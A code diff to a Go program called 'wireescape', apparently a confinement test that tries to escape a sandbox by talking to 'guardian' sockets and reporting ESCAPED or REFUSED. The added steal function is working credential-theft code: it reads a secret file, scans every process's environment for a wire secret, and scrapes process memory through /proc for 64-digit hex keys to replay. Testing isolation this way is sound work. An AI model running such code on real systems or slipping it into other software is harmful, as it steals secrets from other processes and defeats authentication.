@@ -5,6 +5,9 @@
 // guardian and runs a listing of the hidden home directory there, and runs
 // the same listing on every guardian socket it finds. It prints ESCAPED with
 // what it got when a step succeeds and REFUSED with the reason otherwise.
+// Besides hellos without a secret or with a guessed one, it tries every
+// secret it can steal: the state directory's file and the environment of
+// every process (/proc/PID/environ, where a guardian's hand-off lies).
 //
 // Usage: wireescape SOCKET_DIR HOME
 package main
@@ -17,6 +20,9 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
 	"time"
 )
 
@@ -69,6 +75,76 @@ var hellos = []map[string]any{
 	{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid(), "secret": "0000000000000000000000000000000000000000000000000000000000000000"},
 }
 
+// steal adds to hellos every wire secret this process can read.
+func steal(home string) {
+	var found []string
+	if b, err := os.ReadFile(filepath.Join(home, ".local", "state", "winx", "wire-secret")); err == nil {
+		found = append(found, strings.TrimSpace(string(b)))
+		fmt.Printf("ESCAPED read the secret file\n")
+	}
+	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
+	for _, p := range procs {
+		b, err := os.ReadFile(p)
+		if err != nil {
+			continue
+		}
+		for _, kv := range strings.Split(string(b), "\x00") {
+			if v, ok := strings.CutPrefix(kv, "WINX_WIRE_SECRET="); ok {
+				found = append(found, v)
+				cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
+				fmt.Printf("ESCAPED read the secret in %s (%q)\n", p, cmd)
+			}
+		}
+	}
+	// The memory of every process it may open: a secret is 64 hex digits.
+	maps, _ := filepath.Glob("/proc/[0-9]*/maps")
+	hexRun := regexp.MustCompile(`[0-9a-f]{64}`)
+	for _, m := range maps {
+		if filepath.Dir(m) == "/proc/self" || filepath.Base(filepath.Dir(m)) == strconv.Itoa(os.Getpid()) {
+			continue
+		}
+		b, err := os.ReadFile(m)
+		if err != nil {
+			continue
+		}
+		mem, err := os.Open(filepath.Join(filepath.Dir(m), "mem"))
+		if err != nil {
+			continue
+		}
+		read := false
+		for _, line := range strings.Split(string(b), "\n") {
+			f := strings.Fields(line)
+			if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
+				continue
+			}
+			var lo, hi uint64
+			fmt.Sscanf(f[0], "%x-%x", &lo, &hi)
+			if hi-lo > 64<<20 {
+				continue
+			}
+			buf := make([]byte, hi-lo)
+			n, _ := mem.ReadAt(buf, int64(lo))
+			if n > 0 {
+				read = true
+			}
+			for _, c := range hexRun.FindAll(buf[:n], 64) {
+				found = append(found, string(c))
+			}
+		}
+		mem.Close()
+		if read {
+			cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(m), "cmdline"))
+			fmt.Printf("read the memory of %s (%q)\n", filepath.Dir(m), cmd)
+		}
+	}
+	if len(found) > 200 {
+		found = found[:200]
+	}
+	for _, s := range found {
+		hellos = append(hellos, map[string]any{"protocol": map[string]int{"major": 1, "minor": 0}, "role": "adapter", "build": map[string]any{}, "pid": os.Getpid(), "secret": s})
+	}
+}
+
 // open dials path and tries each hello until one is accepted.
 func open(path string) (*conn, error) {
 	var last error
@@ -104,6 +180,7 @@ func run(socket, home string) {
 
 func main() {
 	dir, home := os.Args[1], os.Args[2]
+	steal(home)
 	// Every guardian already running, the confined one included.
 	socks, _ := filepath.Glob(filepath.Join(dir, "g-*.sock"))
 	for _, s := range socks {
